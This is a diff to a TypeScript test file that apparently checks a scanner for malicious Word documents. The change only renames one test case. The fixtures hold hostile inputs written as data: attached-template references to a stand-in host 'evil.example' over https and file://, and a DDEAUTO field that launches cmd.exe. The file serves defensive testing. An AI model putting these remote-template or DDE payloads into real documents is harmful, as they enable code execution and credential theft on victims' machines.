@@ -50,7 +50,7 @@ test.each<[string, Buffer]>([
   ['a shortcut', word({ 'word/media/run.lnk': 'x' })],
   ['a Java archive', word({ 'META-INF/MANIFEST.MF': 'x', 'A.class': 'x' })],
   ['an object by its relationship', word({ [RELS]: related('oleObject', 'media/a.png', 'Internal') })],
-  ['a template from elsewhere', word({ [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm') })],
+  ['an external template', word({ [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm') })],
   ['a template from another machine', word({ [RELS]: related('attachedTemplate', 'file://evil.example/t.dotm') })],
   ['a template in single quotes', word({ [RELS]: related('attachedTemplate', 'https://e/').replaceAll('"', "'") })],
   ['a field that starts a program', word({ 'word/document.xml': field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') })],
